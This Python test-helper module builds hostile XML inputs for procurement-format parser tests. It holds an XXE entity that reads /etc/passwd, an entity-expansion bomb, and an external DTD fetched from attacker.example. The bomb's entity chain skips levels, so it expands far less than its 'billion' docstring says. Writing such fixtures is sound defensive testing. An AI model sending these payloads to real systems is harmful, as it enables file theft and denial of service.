"""Hostile XML documents shared by the parsers' tests (eForms, ESPD, notice import…):
each takes the root element and its namespace, so every format is attacked the same way."""


def xxe(root: str, namespace: str) -> bytes:
    """An external entity reading /etc/passwd."""
    return f"""<?xml version="1.0"?>
<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<{root} xmlns="{namespace}"
 xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"><cbc:ID>&xxe;</cbc:ID></{root}>""".encode()


def billion_laughs(root: str, namespace: str) -> bytes:
    """Nested entities expanding to a billion "lol"s, in an attribute and in text."""
    return f"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
<{root} xmlns="{namespace}" a="&lol9;">&lol9;</{root}>""".encode()


def external_dtd(root: str, namespace: str) -> bytes:
    """A DTD fetched from the network."""
    return f"""<?xml version="1.0"?>
<!DOCTYPE {root} SYSTEM "http://attacker.example/evil.dtd">
<{root} xmlns="{namespace}"/>""".encode()


CONTRACT_NOTICE = ("ContractNotice", "urn:oasis:names:specification:ubl:schema:xsd:ContractNotice-2")
ESPD_RESPONSE = ("QualificationApplicationResponse",
                 "urn:oasis:names:specification:ubl:schema:xsd:QualificationApplicationResponse-2")
